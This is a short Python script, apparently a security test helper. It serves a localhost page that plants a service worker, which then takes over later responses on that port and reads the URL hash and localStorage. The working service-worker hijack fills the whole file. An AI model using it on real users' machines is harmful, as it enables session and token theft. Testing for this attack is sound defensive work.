"""Serves a page at a port that leaves a service worker in the browser, as another user of the machine could."""

import http.server
import sys

PAGE = b"""<!doctype html><title>planted</title>
<script>navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)
.then(() => { document.title = "ready"; });</script>"""

# From then on the worker answers in place of whoever is at the port, with a page that reads the address.
WORKER = b"""
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => event.respondWith(new Response(
  "<!doctype html><script>document.title = 'stolen ' + location.hash + localStorage.length</script>",
  { headers: { "Content-Type": "text/html" } })));
"""


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        is_worker = self.path == "/worker.js"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.end_headers()
        self.wfile.write(WORKER if is_worker else PAGE)

    def log_message(self, *arguments):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
